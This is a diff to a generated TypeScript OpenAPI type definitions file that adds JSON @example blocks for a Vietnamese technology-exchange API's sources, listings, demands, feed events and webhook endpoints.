+                 *       "id": "hanoi-portal",
+                 *       "name": "Cổng cung cầu công nghệ Hà Nội",
+                 *       "organizationId": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                 *       "homepage": "https://techport.hanoi.example.vn"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateSourceRequest"];
             };
         };
@@ -17801,6 +23901,16 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "hanoi-portal",
+                     *       "name": "Cổng cung cầu công nghệ Hà Nội",
+                     *       "organizationId": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                     *       "homepage": "https://techport.hanoi.example.vn",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Source"];
                 };
             };
@@ -17953,6 +24063,16 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "hanoi-portal",
+                     *       "name": "Cổng cung cầu công nghệ Hà Nội",
+                     *       "organizationId": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                     *       "homepage": "https://techport.hanoi.example.vn",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Source"];
                 };
             };
@@ -18055,6 +24175,51 @@ export interface operations {
         /** @description The whole listing (PUT replaces it): an omitted optional field takes its default (null, [], none, negotiable, false), as on createListing. The rules on price and IPR numbers apply. */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "kind": "technology",
+                 *       "titleVi": "Máy gieo hạt khí nén cho ruộng lúa",
+                 *       "titleEn": null,
+                 *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                 *       "trl": 7,
+                 *       "iprStatus": "patent_granted",
+                 *       "iprNumbers": [
+                 *         "1-0023456"
+                 *       ],
+                 *       "transferForms": [
+                 *         "standalone",
+                 *         "ip_transfer"
+                 *       ],
+                 *       "transferMethods": [
+                 *         "technical_documents",
+                 *         "training"
+                 *       ],
+                 *       "priceType": "amount",
+                 *       "priceVnd": 250000000,
+                 *       "sectors": [
+                 *         "A"
+                 *       ],
+                 *       "fields": [
+                 *         "4"
+                 *       ],
+                 *       "keywords": [
+                 *         "lúa hữu cơ",
+                 *         "nông nghiệp sạch"
+                 *       ],
+                 *       "provinceCodes": [
+                 *         "36"
+                 *       ],
+                 *       "media": [
+                 *         {
+                 *           "url": "https://example.vn/lua.jpg",
+                 *           "kind": "image",
+                 *           "title": "Cánh đồng lúa"
+                 *         }
+                 *       ],
+                 *       "validUntil": "2026-12-31",
+                 *       "status": "draft"
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpsertSourceListingRequest"];
             };
         };
@@ -18070,6 +24235,82 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "455a0131-155a-44ca-8509-3da74d955d0e",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                     *         "name": "Cổng cung cầu công nghệ Hà Nội",
+                     *         "kind": "connection_point"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Máy gieo hạt khí nén cho ruộng lúa",
+                     *       "titleEn": null,
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 250000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": null,
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "hanoi-portal",
+                     *         "externalId": "HN-001",
+                     *         "globalId": "hanoi-portal:listing:HN-001"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "possibleDuplicates": []
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListingWithDuplicates"];
                 };
             };
@@ -18085,6 +24326,82 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "455a0131-155a-44ca-8509-3da74d955d0e",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "3c3d161b-2a37-458b-987d-f304048fbcad",
+                     *         "name": "Cổng cung cầu công nghệ Hà Nội",
+                     *         "kind": "connection_point"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Máy gieo hạt khí nén cho ruộng lúa",
+                     *       "titleEn": null,
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 250000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": null,
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "hanoi-portal",
+                     *         "externalId": "HN-001",
+                     *         "globalId": "hanoi-portal:listing:HN-001"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "possibleDuplicates": []
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListingWithDuplicates"];
                 };
             };
@@ -18253,6 +24570,32 @@ export interface operations {
         /** @description The whole demand (PUT replaces it): an omitted optional field takes its default (null or []), as on createDemand. The budget range must not be empty. */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "titleVi": "Cần máy bóc vỏ lạc quy mô hộ",
+                 *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                 *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                 *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                 *       "sectors": [
+                 *         "A",
+                 *         "C"
+                 *       ],
+                 *       "fields": [
+                 *         "4"
+                 *       ],
+                 *       "keywords": [
+                 *         "sấy lúa",
+                 *         "sau thu hoạch"
+                 *       ],
+                 *       "minTrl": 6,
+                 *       "budgetMinVnd": 500000000,
+                 *       "budgetMaxVnd": 2000000000,
+                 *       "deadline": "2026-06-30",
+                 *       "provinceCode": "36",
+                 *       "ownerId": "9e508570-815a-469b-9002-8d0354fe4d91",
+                 *       "status": "draft"
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpsertSourceDemandRequest"];
             };
         };
@@ -18268,6 +24611,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "68ba77f5-32b0-4716-9955-407539013abe",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "9e508570-815a-469b-9002-8d0354fe4d91",
+                     *         "name": "Công ty Cổ phần Cơ khí Đông Anh",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy bóc vỏ lạc quy mô hộ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": null,
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 2000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": null,
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "hanoi-portal",
+                     *         "externalId": "NC-001",
+                     *         "globalId": "hanoi-portal:demand:NC-001"
+                     *       },
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -18283,6 +24674,54 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "68ba77f5-32b0-4716-9955-407539013abe",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "9e508570-815a-469b-9002-8d0354fe4d91",
+                     *         "name": "Công ty Cổ phần Cơ khí Đông Anh",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "titleVi": "Cần máy bóc vỏ lạc quy mô hộ",
+                     *       "titleEn": "Rice dryer wanted, 10 tonnes per batch",
+                     *       "problemVi": "Lúa thu hoạch vụ mùa bị ẩm, phơi nắng không kịp, tỷ lệ hao hụt cao.",
+                     *       "problemEn": null,
+                     *       "desiredOutcomeVi": "Giảm hao hụt sau thu hoạch xuống dưới 3%.",
+                     *       "desiredOutcomeEn": null,
+                     *       "sectors": [
+                     *         "A",
+                     *         "C"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "sấy lúa",
+                     *         "sau thu hoạch"
+                     *       ],
+                     *       "minTrl": 6,
+                     *       "budgetMinVnd": 500000000,
+                     *       "budgetMaxVnd": 2000000000,
+                     *       "deadline": "2026-06-30",
+                     *       "neededBy": null,
+                     *       "deadlinePassed": false,
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "openedAt": null,
+                     *       "closedAt": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "provenance": {
+                     *         "source": "hanoi-portal",
+                     *         "externalId": "NC-001",
+                     *         "globalId": "hanoi-portal:demand:NC-001"
+                     *       },
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Demand"];
                 };
             };
@@ -18463,6 +24902,181 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "3",
+                     *           "type": "listing.published",
+                     *           "occurredAt": "2026-03-02T03:00:00.000Z",
+                     *           "subject": {
+                     *             "type": "listing",
+                     *             "id": "6aeed55a-017b-466e-9bc5-a19eb89edc9d"
+                     *           },
+                     *           "tombstone": false,
+                     *           "data": {
+                     *             "id": "6aeed55a-017b-466e-9bc5-a19eb89edc9d",
+                     *             "trl": 8,
+                     *             "kind": "technology",
+                     *             "media": [
+                     *               {
+                     *                 "url": "https://example.vn/lua.jpg",
+                     *                 "kind": "image",
+                     *                 "title": "Cánh đồng lúa"
+                     *               }
+                     *             ],
+                     *             "owner": {
+                     *               "id": "84c7b3f3-32fd-4c74-8587-883c44e22afd",
+                     *               "kind": "enterprise",
+                     *               "name": "Viện Công nghệ sau thu hoạch"
+                     *             },
+                     *             "fields": [
+                     *               "4"
+                     *             ],
+                     *             "status": "published",
+                     *             "sectors": [
+                     *               "A"
+                     *             ],
+                     *             "titleEn": "Organic rice production process",
+                     *             "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *             "version": 3,
+                     *             "contacts": null,
+                     *             "keywords": [
+                     *               "lúa hữu cơ",
+                     *               "nông nghiệp sạch"
+                     *             ],
+                     *             "priceVnd": 250000000,
+                     *             "redacted": [
+                     *               "contacts",
+                     *               "iprNumbers"
+                     *             ],
+                     *             "anonymous": false,
+                     *             "createdAt": "2026-03-02T03:00:00.000Z",
+                     *             "iprStatus": "patent_granted",
+                     *             "priceType": "amount",
+                     *             "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *             "disclosure": {
+                     *               "contacts": false,
+                     *               "iprNumbers": false
+                     *             },
+                     *             "iprNumbers": null,
+                     *             "provenance": {
+                     *               "source": "tech-exchange",
+                     *               "globalId": "tech-exchange:listing:6aeed55a-017b-466e-9bc5-a19eb89edc9d",
+                     *               "externalId": null
+                     *             },
+                     *             "validUntil": "2026-12-31",
+                     *             "moderatedAt": null,
+                     *             "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *             "withdrawnAt": null,
+                     *             "descriptionEn": null,
+                     *             "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *             "provinceCodes": [
+                     *               "36"
+                     *             ],
+                     *             "transferForms": [
+                     *               "standalone",
+                     *               "ip_transfer"
+                     *             ],
+                     *             "withdrawReason": null,
+                     *             "transferMethods": [
+                     *               "technical_documents",
+                     *               "training"
+                     *             ],
+                     *             "moderationReason": null,
+                     *             "currentProvinceCodes": [
+                     *               "37"
+                     *             ]
+                     *           }
+                     *         },
+                     *         {
+                     *           "id": "4",
+                     *           "type": "listing.updated",
+                     *           "occurredAt": "2026-03-02T03:00:00.000Z",
+                     *           "subject": {
+                     *             "type": "listing",
+                     *             "id": "6aeed55a-017b-466e-9bc5-a19eb89edc9d"
+                     *           },
+                     *           "tombstone": false,
+                     *           "data": {
+                     *             "id": "6aeed55a-017b-466e-9bc5-a19eb89edc9d",
+                     *             "trl": 8,
+                     *             "kind": "technology",
+                     *             "media": [
+                     *               {
+                     *                 "url": "https://example.vn/lua.jpg",
+                     *                 "kind": "image",
+                     *                 "title": "Cánh đồng lúa"
+                     *               }
+                     *             ],
+                     *             "owner": {
+                     *               "id": "84c7b3f3-32fd-4c74-8587-883c44e22afd",
+                     *               "kind": "enterprise",
+                     *               "name": "Viện Công nghệ sau thu hoạch"
+                     *             },
+                     *             "fields": [
+                     *               "4"
+                     *             ],
+                     *             "status": "published",
+                     *             "sectors": [
+                     *               "A"
+                     *             ],
+                     *             "titleEn": "Organic rice, second edition",
+                     *             "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *             "version": 4,
+                     *             "contacts": null,
+                     *             "keywords": [
+                     *               "lúa hữu cơ",
+                     *               "nông nghiệp sạch"
+                     *             ],
+                     *             "priceVnd": 250000000,
+                     *             "redacted": [
+                     *               "contacts",
+                     *               "iprNumbers"
+                     *             ],
+                     *             "anonymous": false,
+                     *             "createdAt": "2026-03-02T03:00:00.000Z",
+                     *             "iprStatus": "patent_granted",
+                     *             "priceType": "amount",
+                     *             "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *             "disclosure": {
+                     *               "contacts": false,
+                     *               "iprNumbers": false
+                     *             },
+                     *             "iprNumbers": null,
+                     *             "provenance": {
+                     *               "source": "tech-exchange",
+                     *               "globalId": "tech-exchange:listing:6aeed55a-017b-466e-9bc5-a19eb89edc9d",
+                     *               "externalId": null
+                     *             },
+                     *             "validUntil": "2026-12-31",
+                     *             "moderatedAt": null,
+                     *             "publishedAt": "2026-03-02T03:00:00.000Z",
+                     *             "withdrawnAt": null,
+                     *             "descriptionEn": null,
+                     *             "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *             "provinceCodes": [
+                     *               "36"
+                     *             ],
+                     *             "transferForms": [
+                     *               "standalone",
+                     *               "ip_transfer"
+                     *             ],
+                     *             "withdrawReason": null,
+                     *             "transferMethods": [
+                     *               "technical_documents",
+                     *               "training"
+                     *             ],
+                     *             "moderationReason": null,
+                     *             "currentProvinceCodes": [
+                     *               "37"
+                     *             ]
+                     *           }
+                     *         }
+                     *       ],
+                     *       "nextCursor": "WyJldmVudHMiLCI3MzY0NyIsMTZd.AH9TFUNGPGpDVYbF-ml2aw"
+                     *     }
+                     */
                     "application/json": components["schemas"]["FeedEventPage"];
                 };
             };
@@ -18564,6 +25178,12 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookPage"];
                 };
             };
@@ -18657,6 +25277,15 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "url": "http://127.0.0.1:42605/member",
+                 *       "eventTypes": [
+                 *         "delegation.proposed",
+                 *         "delegation.accepted"
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateWebhookRequest"];
             };
         };
@@ -18673,6 +25302,27 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "webhook": {
+                     *         "id": "aadf0905-fb43-438f-a5b6-c5fae16f4667",
+                     *         "organizationId": "0bdbe210-0741-44d5-93eb-6be5576d5806",
+                     *         "url": "http://127.0.0.1:42605/member",
+                     *         "eventTypes": [
+                     *           "delegation.proposed",
+                     *           "delegation.accepted"
+                     *         ],
+                     *         "description": null,
+                     *         "status": "active",
+                     *         "disabledAt": null,
+                     *         "disabledReason": null,
+                     *         "createdAt": "2026-03-02T03:00:00.000Z",
+                     *         "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *         "version": 1
+                     *       },
+                     *       "secret": "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookWithSecret"];
                 };
             };
@@ -18823,6 +25473,23 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "ab5ad194-2a17-401b-8a9f-2f02e8b89eca",
+                     *       "organizationId": "8f9a49e2-31d8-49c6-8fd9-e9f949750c2d",
+                     *       "url": "https://93.184.215.14/hooks/tech-exchange",
+                     *       "eventTypes": [
+                     *         "deal.started"
+                     *       ],
+                     *       "description": "Cổng tỉnh",
+                     *       "status": "active",
+                     *       "disabledAt": null,
+                     *       "disabledReason": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Webhook"];
                 };
             };
@@ -19067,6 +25734,12 @@ export interface operations {
         /** @description Fields to change; null clears the description */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "eventTypes": [],
+                 *       "description": null
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateWebhookRequest"];
             };
         };
@@ -19082,6 +25755,21 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "ab5ad194-2a17-401b-8a9f-2f02e8b89eca",
+                     *       "organizationId": "8f9a49e2-31d8-49c6-8fd9-e9f949750c2d",
+                     *       "url": "https://93.184.215.14/hooks/tech-exchange",
+                     *       "eventTypes": [],
+                     *       "description": null,
+                     *       "status": "active",
+                     *       "disabledAt": null,
+                     *       "disabledReason": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Webhook"];
                 };
             };
@@ -19242,6 +25930,24 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "webhook": {
+                     *         "id": "ab5ad194-2a17-401b-8a9f-2f02e8b89eca",
+                     *         "organizationId": "8f9a49e2-31d8-49c6-8fd9-e9f949750c2d",
+                     *         "url": "https://93.184.215.14/hooks/tech-exchange",
+                     *         "eventTypes": [],
+                     *         "description": null,
+                     *         "status": "active",
+                     *         "disabledAt": null,
+                     *         "disabledReason": null,
+                     *         "createdAt": "2026-03-02T03:00:00.000Z",
+                     *         "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *         "version": 3
+                     *       },
+                     *       "secret": "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookWithSecret"];
                 };
             };
@@ -19386,6 +26092,28 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "cbb828d5-5cc4-417d-9739-ed617cfdae39",
+                     *           "webhookId": "38eef6ca-991a-4c85-8680-af6688289fdf",
+                     *           "eventId": 13,
+                     *           "eventType": "deal.started",
+                     *           "messageId": "evt_13",
+                     *           "status": "failed",
+                     *           "attempts": 1,
+                     *           "nextAttemptAt": null,
+                     *           "lastAttemptAt": "2026-12-06T00:08:17.542Z",
+                     *           "lastStatusCode": 500,
+                     *           "lastError": "HTTP 500",
+                     *           "createdAt": "2026-12-06T00:08:17.542Z",
+                     *           "attemptLog": []
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookDeliveryPage"];
                 };
             };
@@ -19511,6 +26239,40 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "ea948cdd-d6ba-40c0-b4aa-0f7301a0016c",
+                     *       "webhookId": "57e3a5da-7924-446f-98eb-047746c018a5",
+                     *       "eventId": 7,
+                     *       "eventType": "deal.started",
+                     *       "messageId": "evt_7",
+                     *       "status": "pending",
+                     *       "attempts": 4,
+                     *       "nextAttemptAt": "2026-03-02T03:00:00.000Z",
+                     *       "lastAttemptAt": "2026-03-02T03:00:00.000Z",
+                     *       "lastStatusCode": null,
+                     *       "lastError": "timeout: no answer within 300 ms",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "attemptLog": [
+                     *         {
+                     *           "attempt": 1,
+                     *           "attemptedAt": "2026-03-02T03:00:00.000Z",
+                     *           "durationMs": 301,
+                     *           "statusCode": null,
+                     *           "error": "timeout: no answer within 300 ms",
+                     *           "responseBody": null
+                     *         },
+                     *         {
+                     *           "attempt": 2,
+                     *           "attemptedAt": "2026-03-02T03:00:00.000Z",
+                     *           "durationMs": 300,
+                     *           "statusCode": null,
+                     *           "error": "timeout: no answer within 300 ms",
+                     *           "responseBody": null
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookDelivery"];
                 };
             };
@@ -19676,6 +26438,23 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "c3e50b03-4388-4592-bd2d-069b2b886bb7",
+                     *       "webhookId": "6b8de34d-45fd-4f24-8202-84f412ff9e85",
+                     *       "eventId": 9,
+                     *       "eventType": "webhook.ping",
+                     *       "messageId": "evt_9",
+                     *       "status": "pending",
+                     *       "attempts": 0,
+                     *       "nextAttemptAt": "2026-03-02T03:00:00.000Z",
+                     *       "lastAttemptAt": null,
+                     *       "lastStatusCode": null,
+                     *       "lastError": null,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "attemptLog": []
+                     *     }
+                     */
                     "application/json": components["schemas"]["WebhookDelivery"];
                 };
             };
